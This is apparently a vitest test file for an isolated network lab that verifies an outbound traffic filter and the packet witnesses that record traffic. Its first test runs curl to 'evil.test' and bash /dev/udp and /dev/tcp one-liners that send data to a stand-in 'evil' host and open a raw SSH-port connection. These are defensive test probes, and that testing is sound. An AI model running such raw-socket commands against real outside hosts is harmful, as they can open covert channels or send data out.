import { execFileSync, spawn } from 'node:child_process';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Lab, WORLD } from './lab.ts';

let lab: Lab;
beforeAll(async () => {
  lab = await Lab.start();
});
afterAll(() => lab?.stop());

test('without the filter every server of the world is reached, and the witnesses see it', () => {
  const ca = ['--cacert', lab.caPath];
  const web = lab.unfiltered(['curl', '-sS', ...ca, 'https://ok.test/a']);
  expect(web.stdout).toBe('hello from ok.test/a by GET HTTP/2.0\n');
  expect(web.seen.some(({ kind, name }) => kind === 'dns' && name === 'ok.test')).toBe(true);
  expect(web.packets.some(({ dst, dport }) => dst === WORLD.ok && dport === 443)).toBe(true);

  expect(lab.unfiltered(['curl', '-sS', '--http1.1', ...ca, 'https://evil.test:8443/a']).stdout).toContain('HTTP/1.1');
  expect(lab.unfiltered(['dig', '+short', 'alias.test', `@${WORLD.evil}`]).stdout).toContain(WORLD.ok);
  expect(lab.unfiltered(['dig', '+short', '+tcp', 'ok.test']).stdout).toContain(WORLD.ok);
  const udp = lab.unfiltered(['bash', '-c', `exec 3<>/dev/udp/${WORLD.evil}/9999; echo hi >&3; head -c3 <&3`]);
  expect(udp.stdout).toBe('hi\n');
  expect(udp.seen).toContainEqual(expect.objectContaining({ kind: 'udp', address: WORLD.evil, text: 'hi\n' }));
  expect(lab.unfiltered(['bash', '-c', `exec 3<>/dev/tcp/${WORLD.ssh}/22; head -c9 <&3`]).stdout).toBe('SSH-2.0-W');
});

const pidOf = (witness: string): number =>
  Number(execFileSync('pgrep', ['-f', `${witness}.*${lab.directory}/`], { encoding: 'utf8' }).trim());

/** A shell, as this process looks at files and does nothing else meanwhile. */
const inTheMeantime = (script: string): void => void spawn('sh', ['-c', script], { stdio: 'ignore' }).unref();

test('what was sent before a mark is before it, however late it is written down', async () => {
  const sniffer = pidOf('sniffer.py');
  process.kill(sniffer, 'SIGSTOP');
  inTheMeantime(`sleep 0.5; kill -CONT ${sniffer}`);
  execFileSync('ip', ['netns', 'exec', lab.job, 'bash', '-c', `echo hi >/dev/udp/${WORLD.evil}/9999`]);
  const mark = lab.marks();
  await lab.quiet();
  expect(lab.since(mark).packets).toEqual([]);
});

test('so is what the machine answers to the last that a server says, however late the server is', async () => {
  const [servers, sniffer] = [pidOf('main.mjs'), pidOf('sniffer.py')];
  const client = spawn('ip', [
    'netns',
    'exec',
    lab.job,
    'bash',
    '-c',
    `exec 3<>/dev/tcp/${WORLD.ok}/9999; echo hi >&3; head -c3 <&3; read x`,
  ]);
  await new Promise((done) => client.stdout.once('data', done));
  process.kill(servers, 'SIGSTOP');
  const gone = new Promise((done) => client.once('close', done));
  client.stdin.end('\n');
  await gone;
  inTheMeantime(`sleep 0.5; kill -STOP ${sniffer}; kill -CONT ${servers}; sleep 0.5; kill -CONT ${sniffer}`);
  const mark = lab.marks();
  await lab.quiet();
  expect(lab.since(mark).packets).toEqual([]);
});
